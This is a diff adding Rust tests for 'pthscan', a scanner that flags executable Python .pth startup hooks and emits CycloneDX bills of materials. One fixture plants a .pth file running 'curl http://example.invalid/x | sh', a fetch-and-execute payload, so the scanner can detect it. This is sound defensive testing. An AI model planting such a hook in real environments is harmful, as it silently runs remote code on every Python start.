@@ -404,3 +404,123 @@ fn output_to_a_fifo_or_a_symlink_writes_through_it_and_keeps_it() {
         std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&real).unwrap().permissions());
     assert_eq!(mode & 0o777, 0o644);
 }
+
+/// A venv with two distributions, one owning an executable `.pth`, and a stray hook.
+fn planted_for_cyclonedx(dir: &Path) {
+    let sp = super::venv(dir);
+    super::dist_info(&sp, "Clean_Lib", &["clean_lib/__init__.py,,\n".into()]);
+    std::fs::create_dir_all(sp.join("clean_lib")).unwrap();
+    std::fs::write(sp.join("clean_lib/__init__.py"), "").unwrap();
+    std::fs::write(sp.join("Clean_Lib-1.0.dist-info/INSTALLER"), "uv\n").unwrap();
+    super::dist_info(&sp, "hooked", &["hooked_init.pth,,\n".into()]);
+    std::fs::write(
+        sp.join("hooked_init.pth"),
+        "import os; os.system('curl http://example.invalid/x | sh')\n",
+    )
+    .unwrap();
+    std::fs::write(sp.join("stray.pth"), "import this_is_not_here\n").unwrap();
+}
+
+#[test]
+fn cyclonedx_nests_distributions_in_their_environment() {
+    let dir = tempfile::tempdir().unwrap();
+    planted_for_cyclonedx(dir.path());
+    let out = pthscan(&[dir.path().to_str().unwrap(), "--format", "cyclonedx"]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    let bom: serde_json::Value = serde_json::from_slice(&out.stdout).expect("valid JSON");
+    assert_eq!(bom["bomFormat"], "CycloneDX");
+    assert_eq!(bom["specVersion"], "1.6");
+    let envs = bom["components"].as_array().unwrap();
+    assert_eq!(envs.len(), 1);
+    let libs = envs[0]["components"].as_array().unwrap();
+    let purls: Vec<&str> = libs.iter().map(|l| l["purl"].as_str().unwrap()).collect();
+    assert_eq!(purls, ["pkg:pypi/clean-lib@1.0", "pkg:pypi/hooked@1.0"]);
+    let props = |c: &serde_json::Value, name: &str| -> Vec<String> {
+        c["properties"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|p| p["name"] == name)
+            .map(|p| p["value"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    assert_eq!(props(&libs[0], "pthscan:installer"), ["uv"]);
+    assert!(props(&libs[0], "pthscan:finding").is_empty());
+    assert_eq!(libs[1]["hashes"][0]["alg"], "SHA-256");
+    assert!(props(&libs[1], "pthscan:hook")[0].ends_with("/hooked_init.pth"));
+    assert!(
+        props(&libs[1], "pthscan:finding")
+            .iter()
+            .any(|f| f.starts_with("PTH001 high "))
+    );
+    // the hook no distribution owns stays with its environment
+    assert!(
+        props(&envs[0], "pthscan:hook")
+            .iter()
+            .any(|h| h.ends_with("/stray.pth"))
+    );
+    // bom-refs are unique in the document
+    let mut refs = vec![bom["metadata"]["component"]["bom-ref"].as_str().unwrap()];
+    refs.extend(envs.iter().map(|e| e["bom-ref"].as_str().unwrap()));
+    refs.extend(libs.iter().map(|l| l["bom-ref"].as_str().unwrap()));
+    let n = refs.len();
+    refs.sort();
+    refs.dedup();
+    assert_eq!(refs.len(), n);
+    let text = redact(&String::from_utf8_lossy(&out.stdout), dir.path());
+    let mut s = settings();
+    s.add_filter(
+        r#""serialNumber": "urn:uuid:[0-9a-f-]{36}""#,
+        r#""serialNumber": "[SERIAL]""#,
+    );
+    s.add_filter(r#""value": "[0-9a-f]{32}""#, r#""value": "[SCAN_ID]""#);
+    s.bind(|| insta::assert_snapshot!("cyclonedx_planted_venv", text));
+}
+
+#[test]
+#[expect(
+    clippy::print_stderr,
+    reason = "a skipped validation says why, outside CI only"
+)]
+fn cyclonedx_output_validates_with_cyclonedx_python_lib() {
+    // CycloneDX's own library (.ci/run installs it and names its Python); elsewhere python3,
+    // and the check is skipped, saying so, only where it is missing outside CI
+    let named = std::env::var_os("PTHSCAN_CYCLONEDX_PYTHON");
+    let python = named.clone().unwrap_or_else(|| "python3".into());
+    let dir = tempfile::tempdir().unwrap();
+    planted_for_cyclonedx(dir.path());
+    materialize(&load_case("litellm-init"), dir.path());
+    let bom = dir.path().join("bom.json");
+    let out = pthscan(&[
+        dir.path().to_str().unwrap(),
+        "--format",
+        "cyclonedx",
+        "-o",
+        bom.to_str().unwrap(),
+    ]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    let run = std::process::Command::new(&python)
+        .arg(repo().join("tests/cyclonedx_validate.py"))
+        .arg(&bom)
+        .output();
+    let missing = match &run {
+        Err(e) => Some(format!("cannot run `{}`: {e}", python.to_string_lossy())),
+        Ok(o) if o.status.code() == Some(3) => Some(String::from_utf8_lossy(&o.stderr).into()),
+        Ok(_) => None,
+    };
+    if let Some(why) = missing {
+        assert!(
+            std::env::var_os("CI").is_none() && named.is_none(),
+            "CI must validate CycloneDX output: {why}"
+        );
+        eprintln!("skipped: CycloneDX validation: {why}");
+        return;
+    }
+    let run = run.unwrap();
+    assert!(
+        run.status.success(),
+        "{}{}",
+        String::from_utf8_lossy(&run.stdout),
+        String::from_utf8_lossy(&run.stderr)
+    );
+}
